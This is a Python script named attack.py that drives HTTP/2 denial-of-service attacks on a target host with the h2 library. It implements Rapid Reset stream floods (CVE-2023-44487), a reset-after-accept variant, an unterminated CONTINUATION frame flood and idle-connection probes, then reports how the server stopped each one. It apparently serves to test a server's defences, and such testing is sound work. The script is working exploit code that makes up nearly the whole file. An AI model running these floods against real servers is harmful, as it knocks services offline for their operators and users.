"""HTTP/2 attacks on a server, driven with the `h2` package (hyperframe and
hpack, which come with it, write the frames h2 itself would refuse to send).

    attack.py rapid-reset HOST PORT MAX_STREAMS
        Opens streams and resets each at once (CVE-2023-44487), 100 to a
        write, until the server sends GOAWAY or closes, or MAX_STREAMS were
        sent.
    attack.py reset-after-accept HOST PORT MAX_STREAMS
        The same, one stream (to a slow path) at a time, each reset only
        after a PING sent behind its HEADERS came back: the server has read
        the request and started on it.
    attack.py continuation HOST PORT MAX_BYTES
        Sends HEADERS without END_HEADERS, then CONTINUATION frames that
        never end, until the server closes, or MAX_BYTES were sent.
    attack.py idle HOST PORT PATH
        A GET, then nothing: waits (bounded) for the server to end the
        connection, and reports how.
    attack.py get HOST PORT PATH [HEADER_BYTES]
        One plain HTTP/2 GET on its own connection (with an `x-big` header
        of HEADER_BYTES when given); also reports the server's SETTINGS.

Prints one JSON line: what was sent before the server stopped it, and how
it stopped it ("goaway" with the error code, "closed", or "none").
"""

import json
import select
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

# Every wait on the server is bounded.
READ_TIMEOUT = 10.0


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=READ_TIMEOUT)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(host, path):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", host),
        (":path", path),
    ]


def feed(sock, conn, outcome, wait):
    """Reads what the server sent (waiting up to `wait` s for something);
    records GOAWAY or close in `outcome`."""
    readable, _, _ = select.select([sock], [], [], wait)
    if not readable:
        return
    try:
        data = sock.recv(65536)
    except socket.timeout:
        return
    except OSError:
        outcome.setdefault("how", "closed")
        return
    if not data:
        outcome.setdefault("how", "closed")
        return
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        events = []
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            outcome["how"] = "goaway"
            outcome["error_code"] = int(event.error_code)
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        outcome.setdefault("how", "closed")


def wait_for_ping_ack(sock, conn, outcome):
    """Sends a PING and reads (bounded) until its ACK or the end."""
    conn.ping(b"12345678")
    sock.sendall(conn.data_to_send())
    for _ in range(100):
        readable, _, _ = select.select([sock], [], [], READ_TIMEOUT)
        if not readable:
            return
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return
        except OSError:
            outcome.setdefault("how", "closed")
            return
        if not data:
            outcome.setdefault("how", "closed")
            return
        acked = False
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                outcome["how"] = "goaway"
                outcome["error_code"] = int(event.error_code)
            elif isinstance(event, h2.events.PingAckReceived):
                acked = True
        sock.sendall(conn.data_to_send())
        if acked or "how" in outcome:
            return


def rapid_reset(host, port, max_streams, after_accept=False):
    sock, conn = connect(host, port)
    outcome = {}
    sent = 0
    batch = 1 if after_accept else 100
    path = "/slow?ms=5000" if after_accept else "/health"
    try:
        while sent < max_streams and "how" not in outcome:
            for _ in range(batch):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, request_headers(host, path), end_stream=True)
                if after_accept:
                    wait_for_ping_ack(sock, conn, outcome)
                    if "how" in outcome:
                        break
                try:
                    conn.reset_stream(stream_id)
                except h2.exceptions.StreamClosedError:
                    # Answered before the reset (a refusal, say).
                    outcome["answered_first"] = outcome.get("answered_first", 0) + 1
                sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except socket.timeout:
                outcome.setdefault("how", "stalled")
                break
            except OSError:
                outcome.setdefault("how", "closed")
                break
            feed(sock, conn, outcome, 0)
        # The server may still be reading the last batches: wait (bounded)
        # for its answer.
        deadline_reads = 20
        while "how" not in outcome and deadline_reads > 0:
            feed(sock, conn, outcome, READ_TIMEOUT / 20)
            deadline_reads -= 1
    except h2.exceptions.ProtocolError as err:
        # After a GOAWAY h2 refuses new streams; anything else is reported.
        outcome.setdefault("how", "client-error")
        outcome.setdefault("client_error", repr(err))
    except socket.timeout:
        outcome.setdefault("how", "stalled")
    except OSError:
        outcome.setdefault("how", "closed")
    finally:
        sock.close()
    outcome.setdefault("how", "none")
    outcome["streams_sent"] = sent
    return outcome


def continuation(host, port, max_bytes):
    sock, conn = connect(host, port)
    outcome = {}
    # Wait for the server's SETTINGS, so the flood is read as frames.
    feed(sock, conn, outcome, READ_TIMEOUT)
    encoder = hpack.Encoder()
    block = encoder.encode(request_headers(host, "/health"))
    head = HeadersFrame(1)
    head.flags.add("END_STREAM")
    head.data = block
    sent = 0
    frames = 0
    try:
        sock.sendall(head.serialize())
        sent += len(block)
        # Never END_HEADERS: each a literal header of 1 KiB.
        fragment = encoder.encode([("x-flood", "a" * 1000)])
        while sent < max_bytes and "how" not in outcome:
            chunk = b""
            for _ in range(16):
                frame = ContinuationFrame(1)
                frame.data = fragment
                chunk += frame.serialize()
                frames += 1
            sock.sendall(chunk)
            sent += 16 * len(fragment)
            feed(sock, conn, outcome, 0)
    except socket.timeout:
        # The server stopped reading but kept the connection: not a close.
        outcome.setdefault("how", "stalled")
    except OSError:
        outcome.setdefault("how", "closed")
    if "how" not in outcome:
        feed(sock, conn, outcome, READ_TIMEOUT)
    sock.close()
    outcome.setdefault("how", "none")
    outcome["bytes_sent"] = sent
    outcome["frames_sent"] = frames
    return outcome


def get(host, port, path, header_bytes=0, linger=False):
    sock, conn = connect(host, port)
    outcome = {}
    # The server's SETTINGS come first.
    feed(sock, conn, outcome, READ_TIMEOUT)
    settings = conn.remote_settings
    stream_id = conn.get_next_available_stream_id()
    headers = request_headers(host, path)
    if header_bytes:
        headers.append(("x-big", "a" * header_bytes))
    conn.send_headers(stream_id, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    status = None
    body = b""
    done = False
    while not done:
        readable, _, _ = select.select([sock], [], [], READ_TIMEOUT)
        if not readable:
            break
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[":status"])
            elif isinstance(event, h2.events.DataReceived):
                body += event.data
                conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
            elif isinstance(event, h2.events.StreamReset):
                outcome["reset"] = int(event.error_code)
                done = True
            elif isinstance(event, h2.events.StreamEnded):
                done = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                outcome["how"] = "goaway"
                done = True
        sock.sendall(conn.data_to_send())
    if linger:
        # Idle from here on: the server's GOAWAY (or close) ends it.
        for _ in range(4):
            if "how" in outcome:
                break
            feed(sock, conn, outcome, READ_TIMEOUT)
        outcome.setdefault("how", "none")
    sock.close()
    outcome["status"] = status
    outcome["body"] = body.decode("utf-8", "replace")
    outcome["max_concurrent_streams"] = settings.max_concurrent_streams
    outcome["max_header_list_size"] = settings.max_header_list_size
    return outcome


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "rapid-reset":
        out = rapid_reset(host, port, int(sys.argv[4]))
    elif mode == "reset-after-accept":
        out = rapid_reset(host, port, int(sys.argv[4]), after_accept=True)
    elif mode == "continuation":
        out = continuation(host, port, int(sys.argv[4]))
    elif mode == "idle":
        out = get(host, port, sys.argv[4], linger=True)
    elif mode == "get":
        out = get(host, port, sys.argv[4], int(sys.argv[5]) if len(sys.argv) > 5 else 0)
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
